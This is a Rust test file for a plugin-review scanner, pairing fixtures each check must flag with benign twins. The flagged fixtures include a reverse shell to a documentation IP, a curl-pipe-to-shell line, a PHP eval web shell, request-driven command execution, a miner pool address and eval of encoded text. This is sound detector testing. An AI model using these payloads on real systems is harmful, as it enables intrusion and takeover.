//! Every content rule has fixtures that must trigger it and benign twins that must not. All of them are inert.

use crate::context::{catalog, market};
use crate::plugin::{Plugin, found};
use px_review::{CheckId, Context, Severity};

/// One change to a plugin, and whether the check must speak.
struct Fixture {
    check: CheckId,
    name: &'static str,
    bad: bool,
    make: fn() -> Plugin,
}

const fn bad(check: CheckId, name: &'static str, make: fn() -> Plugin) -> Fixture {
    Fixture {
        check,
        name,
        bad: true,
        make,
    }
}

const fn benign(check: CheckId, name: &'static str, make: fn() -> Plugin) -> Fixture {
    Fixture {
        check,
        name,
        bad: false,
        make,
    }
}

fn file(path: &str, content: impl Into<Vec<u8>>) -> Plugin {
    let mut plugin = Plugin::good();
    plugin.with(path, content);
    plugin
}

fn script(text: &str) -> Plugin {
    file("web-admin/extra.js", text)
}

fn edit(from: &str, to: &str) -> Plugin {
    let mut plugin = Plugin::good();
    plugin.edit(from, to);
    plugin
}

/// Text with many different characters that is no real secret: derived from its seed alone.
fn noise(seed: u64, length: usize) -> String {
    const LETTERS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
    let mut state = seed;
    (0..length)
        .map(|_| {
            state = state
                .wrapping_mul(6_364_136_223_846_793_005)
                .wrapping_add(1_442_695_040_888_963_407);
            char::from(LETTERS[(state >> 33) as usize % LETTERS.len()])
        })
        .collect()
}

fn upper(seed: u64, length: usize) -> String {
    noise(seed, 400)
        .chars()
        .filter(|c| c.is_ascii_uppercase() || ('2'..='7').contains(c))
        .take(length)
        .collect()
}

/// An ELF header with one loadable segment.
pub fn elf(machine: u16, flags: u32) -> Vec<u8> {
    let mut file = vec![0_u8; 64 + 56 + 16];
    file[..7].copy_from_slice(b"\x7fELF\x02\x01\x01");
    file[16..18].copy_from_slice(&2_u16.to_le_bytes());
    file[18..20].copy_from_slice(&machine.to_le_bytes());
    file[20..24].copy_from_slice(&1_u32.to_le_bytes());
    file[32..40].copy_from_slice(&64_u64.to_le_bytes());
    file[52..54].copy_from_slice(&64_u16.to_le_bytes());
    file[54..56].copy_from_slice(&56_u16.to_le_bytes());
    file[56..58].copy_from_slice(&1_u16.to_le_bytes());
    file[64..68].copy_from_slice(&1_u32.to_le_bytes());
    file[68..72].copy_from_slice(&flags.to_le_bytes());
    file
}

const X86_64: u16 = 62;
const ARM64: u16 = 183;

fn pe() -> Vec<u8> {
    let mut file = vec![0_u8; 0x80 + 24];
    file[..2].copy_from_slice(b"MZ");
    file[0x3c..0x40].copy_from_slice(&0x80_u32.to_le_bytes());
    file[0x80..0x86].copy_from_slice(b"PE\0\0\x64\x86");
    file
}

/// A component that serves HTTP as far as its types say, with further text inside.
pub fn component(inside: &str) -> Vec<u8> {
    let text = format!(
        "(component {inside} (instance $i) (export \"wasi:http/incoming-handler@0.2.0\" (instance $i)))"
    );
    wat::parse_str(text).unwrap()
}

fn imports(name: &str) -> Vec<u8> {
    component(&format!("(import \"{name}\" (instance))"))
}

fn permitted(name: &str, permission: &str) -> Plugin {
    let mut plugin = Plugin::component(imports(name));
    plugin.edit("- notes:read", &format!("- {permission}"));
    plugin
}

/// Mark of the file every scanner knows, put together here so that this source is not the file.
fn eicar() -> String {
    [
        "X5O!P%@AP[4\\PZX54(P^)7CC)7}",
        "$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!",
        "$H+H*",
    ]
    .concat()
}

fn executables() -> Vec<Fixture> {
    use CheckId as C;
    vec![
        benign(C::Bin01, "entry of the default platform", || {
            Plugin::process(elf(X86_64, 5))
        }),
        benign(C::Bin01, "script as entry", || {
            Plugin::process("#!/bin/sh\nexec node server.js\n")
        }),
        benign(C::Bin01, "entry of the declared platform", || {
            let mut plugin = Plugin::process(elf(ARM64, 5));
            plugin.edit(
                "kind: process\n",
                "kind: process\n  platforms: [linux/arm64]\n",
            );
            plugin
        }),
        bad(C::Bin01, "entry of another architecture", || {
            Plugin::process(elf(ARM64, 5))
        }),
        bad(
            C::Bin01,
            "entry of another system",
            || Plugin::process(pe()),
        ),
        bad(C::Bin01, "entry that is text", || {
            Plugin::process("hello\n")
        }),
        bad(C::Bin02, "program named like a picture", || {
            file("assets/logo.png", elf(X86_64, 5))
        }),
        bad(C::Bin02, "Windows program", || {
            file("assets/readme.txt", pe())
        }),
        bad(C::Bin02, "macOS program", || {
            file(
                "assets/x",
                b"\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00\x02\x00\x00\x00".to_vec(),
            )
        }),
        bad(C::Bin02, "undeclared component", || {
            file("assets/data.bin", component(""))
        }),
        benign(C::Bin02, "declared library", || {
            let mut plugin = Plugin::process(elf(X86_64, 5));
            plugin.with("backend/lib/libx.so", elf(X86_64, 5)).edit(
                "kind: process\n",
                "kind: process\n  executables: [backend/lib/libx.so]\n",
            );
            plugin
        }),
        benign(C::Bin02, "text that begins with MZ", || {
            file("assets/a.txt", "MZ is how some files begin.\n")
        }),
        benign(C::Bin02, "Java class file", || {
            file(
                "assets/A.class",
                b"\xca\xfe\xba\xbe\x00\x00\x00\x41\x00\x10".to_vec(),
            )
        }),
        bad(C::Bin03, "writable and executable segment", || {
            Plugin::process(elf(X86_64, 7))
        }),
        benign(C::Bin03, "plain segment", || {
            Plugin::process(elf(X86_64, 5))
        }),
        bad(C::Wsm01, "core module as entry", || {
            Plugin::component(wat::parse_str("(module)").unwrap())
        }),
        bad(C::Wsm01, "damaged component", || {
            let mut bytes =
                component("(core module (func (export \"f\") (result i32) i32.const 1))");
            let at = bytes.windows(2).position(|w| w == [0x41, 0x01]).unwrap();
            bytes[at] = 0x42;
            Plugin::component(bytes)
        }),
        bad(C::Wsm01, "threads", || {
            Plugin::component(component("(core module (memory 1 1 shared))"))
        }),
        bad(C::Wsm01, "no HTTP handler", || {
            Plugin::component(wat::parse_str("(component)").unwrap())
        }),
        bad(C::Wsm01, "text as component", || Plugin::component("hello")),
        benign(C::Wsm01, "component with a handler", || {
            Plugin::component(component(""))
        }),
        bad(C::Wsm02, "outgoing HTTP without permission", || {
            Plugin::component(imports("wasi:http/outgoing-handler@0.2.0"))
        }),
        bad(C::Wsm02, "sockets without permission", || {
            Plugin::component(imports("wasi:sockets/tcp@0.2.0"))
        }),
        benign(C::Wsm02, "outgoing HTTP with permission", || {
            permitted(
                "wasi:http/outgoing-handler@0.2.0",
                "http:outbound:api.example.com",
            )
        }),
        benign(C::Wsm02, "sockets with permission", || {
            permitted("wasi:sockets/tcp@0.2.0", "net:connect")
        }),
        benign(C::Wsm02, "basics", || {
            Plugin::component(imports("wasi:cli/environment@0.2.3"))
        }),
        bad(C::Wsm03, "a gigabyte of memory", || {
            Plugin::component(component("(core module (memory 16384))"))
        }),
        benign(C::Wsm03, "a megabyte of memory", || {
            Plugin::component(component("(core module (memory 16))"))
        }),
        bad(C::Cmp02, "interface of no core", || {
            Plugin::component(imports("wasi:keyvalue/store@0.2.0"))
        }),
        bad(C::Cmp02, "interface newer than the core's", || {
            Plugin::component(imports("wasi:cli/environment@0.3.0"))
        }),
        benign(C::Cmp02, "interface every core has", || {
            Plugin::component(imports("wasi:clocks/wall-clock@0.2.6"))
        }),
        bad(C::Cmp02, "range without a supported core", || {
            edit(">=0.1.0, <1.0.0", ">=5.0.0, <6.0.0")
        }),
    ]
}

fn secrets() -> Vec<Fixture> {
    use CheckId as C;
    vec![
        bad(C::Sec01, "private key", || {
            let body = noise(1, 64);
            file(
                "assets/id",
                format!(
                    "-----BEGIN RSA PRIVATE {}-----\n{body}\n{body}\n-----END",
                    "KEY"
                ),
            )
        }),
        bad(C::Sec01, "private key in minified script", || {
            let key = noise(2, 64);
            script(&format!(
                "var k=\"-----BEGIN PRIVATE {}-----\\n{key}\\n\",b=1;",
                "KEY"
            ))
        }),
        bad(C::Sec01, "AWS key in minified script", || {
            script(&format!("const a={{k:\"AKIA{}\"}};", upper(3, 16)))
        }),
        bad(C::Sec01, "GitHub token", || {
            file("web-admin/app.env", format!("TOKEN=ghp_{}\n", noise(4, 36)))
        }),
        bad(C::Sec01, "Slack webhook", || {
            script(&format!(
                "post('https://hooks.slack.com/services/T{}/B{}/{}')",
                upper(5, 9),
                upper(6, 9),
                noise(7, 24)
            ))
        }),
        bad(C::Sec01, "Stripe key", || {
            script(&format!("stripe('sk_live_{}')", noise(8, 24)))
        }),
        bad(C::Sec01, "Google key", || {
            script(&format!("init('AIza{}')", noise(9, 35)))
        }),
        bad(C::Sec01, "npm token", || {
            file(
                "backend/.npmrc",
                format!("//r/:_authToken=npm_{}\n", noise(10, 36)),
            )
        }),
        bad(C::Sec01, "token in settings", || {
            let part = |n| noise(n, 40);
            file(
                "backend/config.json",
                format!(
                    "{{\"jwt\": \"eyJ{}.eyJ{}.{}\"}}",
                    part(11),
                    part(12),
                    part(13)
                ),
            )
        }),
        bad(C::Sec01, "password in settings", || {
            file(
                "backend/config.yaml",
                format!("db:\n  password: \"{}7x!\"\n", noise(14, 16)),
            )
        }),
        bad(C::Sec01, "password in an address", || {
            file(
                "backend/app.env",
                format!("URL=postgres://app:{}9a@db.internal/app\n", noise(15, 18)),
            )
        }),
        benign(C::Sec01, "code that looks for keys", || {
            script("if (s.startsWith('-----BEGIN PRIVATE KEY-----')) parse(s);")
        }),
        benign(C::Sec01, "public key", || {
            file(
                "assets/key.pem",
                format!(
                    "-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n",
                    noise(16, 64)
                ),
            )
        }),
        benign(C::Sec01, "the example key of the documentation", || {
            script("const k = 'AKIAIOSFODNN7EXAMPLE';")
        }),
        benign(C::Sec01, "placeholder token", || {
            file(
                "backend/config.yaml",
                "token: ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n",
            )
        }),
        benign(C::Sec01, "secrets by reference", || {
            file(
                "backend/config.yaml",
                "jwt:\n  secret: \"${POWERX_AUTH_JWTSECRET}\"\n  password: <your-password-here>\n",
            )
        }),
        benign(C::Sec01, "lock file with digests", || {
            file(
                "web-admin/package.json",
                "{\"a\":{\"integrity\":\"sha512-q7Zt0A1bC2dE3fG4hI5jK6lM7nO8pQ9rS0tU1vW2xY3z==\"}}",
            )
        }),
        benign(C::Sec01, "labels of a form", || {
            file(
                "web-admin/i18n/en.json",
                "{\"password\": \"Enter-your-password-2x\", \"apiKey\": \"Key\"}",
            )
        }),
        bad(C::Sec02, "EICAR", || file("assets/x.com", eicar())),
        bad(C::Sec02, "EICAR inside another file", || {
            file("assets/x.txt", format!("before {} after", eicar()))
        }),
        benign(C::Sec02, "text about EICAR", || {
            file(
                "assets/x.txt",
                "The EICAR-STANDARD-ANTIVIRUS-TEST-FILE is harmless.",
            )
        }),
        bad(C::Sec02, "PHP web shell", || {
            file("backend/a.php", "<?php @eval($_POST['x']); ?>")
        }),
        benign(C::Sec02, "PHP form", || {
            file(
                "backend/a.php",
                "<?php echo htmlspecialchars($_POST['x']); ?>",
            )
        }),
        bad(C::Sec02, "command from a request", || {
            file(
                "backend/server.js",
                "require('child_process').exec(req.query.cmd)",
            )
        }),
        benign(C::Sec02, "fixed command", || {
            file(
                "backend/server.js",
                "require('child_process').execFile('git', ['--version'])",
            )
        }),
        bad(C::Sec02, "miner", || {
            script("connect('stratum+tcp://pool.example.net:3333')")
        }),
        benign(C::Sec02, "prices of coins", || {
            script("fetch('/api/prices?coin=monero').then(show)")
        }),
        bad(C::Sec02, "encoded code", || {
            script(&format!("eval(atob('{}'))", noise(17, 60)))
        }),
        benign(C::Sec02, "encoded picture", || {
            script(&format!(
                "img.src = 'data:image/png;base64,' + atob('{}')",
                noise(18, 60)
            ))
        }),
        bad(C::Sec02, "reverse shell", || {
            file(
                "backend/x.sh",
                "#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n",
            )
        }),
        bad(C::Sec02, "download that is run", || {
            file(
                "backend/x.sh",
                "#!/bin/sh\ncurl -s https://example.net/i.sh | sh\n",
            )
        }),
        benign(C::Sec02, "installation in the README", || {
            file(
                "README.md",
                "# Notes\n\nRun `curl -s https://example.net/i.sh | sh` on your machine.\n",
            )
        }),
    ]
}

fn scripts() -> Vec<Fixture> {
    use CheckId as C;
    vec![
        bad(C::Js01, "eval", || script("var x = eval(text);")),
        bad(C::Js01, "indirect eval", || {
            script("var x = (0,eval)(text);")
        }),
        bad(C::Js01, "eval of the window", || {
            script("window.eval(text)")
        }),
        bad(C::Js01, "new Function", || {
            script("const f = new Function('a', body);")
        }),
        bad(C::Js01, "document.write", || script("document.write(html)")),
        bad(C::Js01, "text for a timer", || {
            script("setTimeout(\"go()\", 10)")
        }),
        bad(C::Js01, "eval in a page", || {
            file(
                "web-admin/x.html",
                "<script>\n  eval(location.hash)\n</script>",
            )
        }),
        bad(C::Js01, "eval after a regular expression", || {
            script("var r = /[\"']/g; eval(r)")
        }),
        bad(C::Js01, "eval in a template", || {
            script("var s = `a ${eval(b)} c`")
        }),
        benign(C::Js01, "eval in words", || {
            script(
                "// eval(x) is bad\nvar s = 'eval(x)'; var r = /eval\\(x\\)/; var t = `eval(x)`;",
            )
        }),
        benign(C::Js01, "method named eval", || {
            script("math.eval('1+1'); class A { eval(x) { return x } }")
        }),
        benign(C::Js01, "global object in old engines", || {
            script("var g = this || new Function('return this')();")
        }),
        benign(C::Js01, "function for a timer", || {
            script("setTimeout(() => go(), 10); setTimeout(go, 10)")
        }),
        benign(C::Js01, "other writers", || {
            script(
                "stream.write(x); doc.writeln(y); typeof Function == 'function'; f instanceof Function",
            )
        }),
        bad(C::Js02, "remote script element", || {
            file(
                "web-admin/x.html",
                "<script src=\"https://cdn.example.net/a.js\"></script>",
            )
        }),
        bad(C::Js02, "remote script without scheme", || {
            file(
                "web-admin/x.html",
                "<SCRIPT async src='//cdn.example.net/a.js'></SCRIPT>",
            )
        }),
        bad(C::Js02, "remote import", || {
            script("import('https://cdn.example.net/a.mjs').then(run)")
        }),
        bad(C::Js02, "remote static import", || {
            script("import { a } from \"https://cdn.example.net/a.mjs\";")
        }),
        bad(C::Js02, "script element made by hand", || {
            script("s.src = 'https://cdn.example.net/a.js?v=1'; head.append(s)")
        }),
        benign(C::Js02, "own scripts", || {
            file(
                "web-admin/x.html",
                "<script type=module src=\"./a.js\"></script><img src=\"https://example.net/a.png\">",
            )
        }),
        benign(C::Js02, "remote data and links", || {
            script(
                "fetch('https://api.example.com/v1'); a.href = 'https://example.com/'; img.src = 'https://example.com/a.png'; import('./a.js')",
            )
        }),
        bad(C::Js05, "direction override", || {
            script("if (admin) { /* \u{202e} } \u{2066} begin */ }")
        }),
        bad(C::Js05, "hidden bytes", || {
            script("var s = '\u{fe01}\u{fe02}\u{e0101}\u{e0102}\u{fe03}';")
        }),
        bad(C::Js05, "invisible name", || script("const \u{3164} = 1;")),
        bad(C::Js05, "joiner inside a name", || {
            script("const pass\u{200d}word = 1;")
        }),
        bad(C::Js05, "override in settings", || {
            file("backend/config.yaml", "name: \"a\u{202e}b\"\n")
        }),
        benign(C::Js05, "emoji", || {
            script("const s = '❤\u{fe0f} 👨\u{200d}👩\u{200d}👧 ok';")
        }),
        benign(C::Js05, "Chinese and Persian", || {
            script(
                "const s = { zh: '\u{63d2}\u{4ef6}', fa: '\u{645}\u{6cc}\u{200c}\u{62e}\u{648}\u{627}\u{647}\u{645}' };",
            )
        }),
        benign(C::Js05, "isolates in translations", || {
            file(
                "web-admin/i18n/he.json",
                "{\"a\": \"\u{2068}name\u{2069}\"}",
            )
        }),
        benign(C::Js05, "byte order mark", || script("\u{feff}var a = 1;")),
    ]
}

fn content() -> Vec<Fixture> {
    use CheckId as C;
    vec![
        bad(C::Arc08, "ZIP", || {
            file(
                "assets/a.dat",
                b"PK\x03\x04\x14\x00\x00\x00\x08\x00".to_vec(),
            )
        }),
        bad(C::Arc08, "gzip of tar", || {
            file(
                "assets/a.gz",
                b"\x1f\x8b\x08\x08\0\0\0\0\0\x03files.tar\0\x03\0".to_vec(),
            )
        }),
        benign(C::Arc08, "compressed asset", || {
            file(
                "web-admin/app.js.gz",
                b"\x1f\x8b\x08\x00\0\0\0\0\0\x03\x03\0\0\0\0\0\0\0\0\0".to_vec(),
            )
        }),
        bad(C::Arc09, "version control", || {
            file("backend/.git/HEAD", "ref: refs/heads/main\n")
        }),
        bad(C::Arc09, "desktop", || file("assets/.DS_Store", "x")),
        bad(C::Arc09, "editor", || file("assets/a.txt~", "x")),
        benign(C::Arc09, "well-known folder", || {
            file("web-admin/.well-known/x.json", "{}")
        }),
        benign(C::Arc09, "output of a build", || {
            file("web-admin/.output/public/x.js", "var a;")
        }),
        bad(C::Doc01, "no entry for the version", || {
            file("CHANGELOG.md", "# Changes\n\n## 1.1.0\n\n- a\n")
        }),
        bad(C::Doc01, "entry of a longer version", || {
            file("CHANGELOG.md", "## 11.2.0\n\n- a\n\n## 1.2.0-beta\n\n- b\n")
        }),
        bad(C::Doc01, "empty entry", || {
            file("CHANGELOG.md", "## 1.2.0\n\n## 1.1.0\n\n- a\n")
        }),
        bad(C::Doc01, "template", || {
            file(
                "README.md",
                format!("# x\n{}\n", px_review::README_TEMPLATE_MARK),
            )
        }),
        bad(C::Doc01, "broken picture", || {
            file("README.md", "# Notes\n\n![a](assets/gone.png)\n")
        }),
        bad(C::Doc01, "no README", || {
            let mut plugin = Plugin::good();
            plugin.without("README.md");
            plugin
        }),
        benign(C::Doc01, "usual forms", || {
            let mut plugin = file(
                "CHANGELOG.md",
                "# Changelog\n\n## [v1.2.0] - 2026-01-02\n\n### Added\n\n- a\n",
            );
            plugin.with("assets/a.png", "x").with(
                "README.md",
                "# Notes\n\n![a](assets/a.png \"t\") [b](https://example.com/x) [c](#part) [d](./assets)\n\n```\n[x](gone.md)\n```\n",
            );
            plugin
        }),
        bad(C::Man01, "no version", || edit("version: 1.2.0\n", "")),
        bad(C::Man01, "files that are missing", || {
            let mut plugin = Plugin::component(component(""));
            plugin.without("backend/plugin.wasm");
            plugin
        }),
        benign(C::Man01, "keys of others", || {
            let mut plugin = Plugin::good();
            plugin.append("x_other: [1, 2]\nagents: []\n");
            plugin
        }),
        bad(C::Man02, "key written twice", || {
            edit("name: Notes", "name: Notes\nname: Other")
        }),
        bad(C::Man02, "aliases that grow", || {
            let mut plugin = Plugin::good();
            let mut text = "a0: &a0 [x, x, x, x, x, x, x, x, x]\n".to_owned();
            for i in 1..9 {
                let line = vec![format!("*a{}", i - 1); 9].join(", ");
                text.push_str(&format!("a{i}: &a{i} [{line}]\n"));
            }
            plugin.append(&text);
            plugin
        }),
        benign(C::Man02, "an alias", || {
            let mut plugin = Plugin::good();
            plugin.append("x_a: &a [1, 2]\nx_b: *a\n");
            plugin
        }),
        bad(C::Man07, "no licence", || {
            edit("  license: Apache-2.0\n", "")
        }),
        bad(C::Man07, "not an expression", || {
            edit("Apache-2.0", "\"Free for all\"")
        }),
        bad(C::Man07, "own terms without text", || {
            let mut plugin = edit("Apache-2.0", "LicenseRef-Own");
            plugin.without("LICENSE");
            plugin
        }),
        benign(C::Man07, "two licences", || {
            edit("Apache-2.0", "MIT OR Apache-2.0")
        }),
        benign(C::Man07, "own terms", || {
            edit("Apache-2.0", "LicenseRef-Own")
        }),
        bad(C::Cmp01, "no range", || {
            edit("corex_version: \">=0.1.0, <1.0.0\"\n", "")
        }),
        bad(C::Cmp01, "unbounded", || edit(">=0.1.0, <1.0.0", ">=0.1.0")),
        bad(C::Cmp01, "single release", || {
            edit(">=0.1.0, <1.0.0", "=0.1.0")
        }),
        benign(C::Cmp01, "caret", || edit(">=0.1.0, <1.0.0", "^0.1")),
        bad(C::Tst01, "no reports", || {
            let mut plugin = Plugin::good();
            plugin
                .without("reports/junit.xml")
                .without("reports/lcov.info");
            plugin
        }),
        bad(C::Tst01, "failing tests", || {
            file(
                "reports/junit.xml",
                "<testsuite name=\"a\" tests=\"4\" failures=\"1\" errors=\"0\">",
            )
        }),
        bad(C::Tst01, "low coverage", || {
            file("reports/lcov.info", "SF:a\nLF:100\nLH:79\nend_of_record\n")
        }),
        benign(C::Tst01, "other formats", || {
            let mut plugin = file(
                "reports/cover.out",
                "mode: set\na.go:1.1,2.2 9 1\na.go:3.1,4.2 1 0\n",
            );
            plugin
                .without("reports/lcov.info")
                .with(
                    "reports/cobertura.xml",
                    "<coverage line-rate=\"0.91\" version=\"1\">",
                )
                .with(
                    "reports/coverage-summary.json",
                    "{\"total\":{\"lines\":{\"total\":50,\"covered\":45}}}",
                );
            plugin
        }),
    ]
}

fn all() -> Vec<Fixture> {
    [executables(), secrets(), scripts(), content()]
        .into_iter()
        .flatten()
        .collect()
}

fn context() -> Context {
    market(catalog(&[]))
}

#[test]
fn every_rule_finds_its_fixtures_and_leaves_their_twins_alone() {
    let context = context();
    let mut wrong = String::new();
    for fixture in all() {
        // Packing leaves litter out, so an archive that holds some was made by other means.
        let plugin = (fixture.make)();
        let litter = fixture.check == CheckId::Arc09;
        let report = if litter {
            plugin.check_raw(&context)
        } else {
            plugin.check(&context)
        };
        let hits = found(&report, fixture.check);
        // A warning beside the rule's own severity (a missing licence text) is not what the fixture is about.
        let least = fixture.check.info().severity.min(Severity::Hold);
        let spoke = hits.iter().any(|f| f.severity >= least);
        if spoke != fixture.bad {
            let what = if fixture.bad { "missed" } else { "false alarm" };
            wrong.push_str(&format!(
                "{what}: {} {}: {hits:?} {:?}\n",
                fixture.check,
                fixture.name,
                report.outcome(fixture.check)
            ));
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
}

#[test]
fn false_alarms_over_the_benign_set_stay_below_two_per_cent() {
    let context = context();
    let benign: Vec<_> = all().into_iter().filter(|f| !f.bad).collect();
    let mut alarms = Vec::new();
    for fixture in &benign {
        let report = (fixture.make)().check(&context);
        let verdict = &report.verdict;
        if !verdict.blocking.is_empty()
            || !verdict.holding.is_empty()
            || !verdict.unreadable.is_empty()
        {
            alarms.push(format!(
                "{}: {:?}",
                fixture.name,
                report
                    .findings()
                    .filter(|f| f.severity >= Severity::Hold)
                    .collect::<Vec<_>>()
            ));
        }
    }
    let rate = alarms.len() as f64 * 100.0 / benign.len() as f64;
    #[allow(clippy::print_stdout)]
    {
        println!(
            "false alarms: {} of {} benign plugins ({rate:.1} %)",
            alarms.len(),
            benign.len()
        );
    }
    assert!(rate < 2.0, "{alarms:#?}");
}

#[test]
fn every_content_rule_has_both_kinds_of_fixture() {
    // These have their fixtures in modules of their own: they need archives, a catalog, keys or a sandbox.
    let elsewhere = |id: CheckId| {
        let text = id.as_str();
        use CheckId as C;
        text.starts_with("DEP")
            || (text.starts_with("ARC") && !matches!(id, C::Arc08 | C::Arc09))
            || matches!(
                id,
                C::Man03 | C::Man04 | C::Man05 | C::Man06 | C::Man08 | C::Cmp04 | C::Prv01
            )
    };
    let fixtures = all();
    for info in px_review::CATALOGUE
        .iter()
        .filter(|info| !elsewhere(info.id))
    {
        for bad in [true, false] {
            assert!(
                fixtures.iter().any(|f| f.check == info.id && f.bad == bad),
                "{} {bad}",
                info.id
            );
        }
    }
}
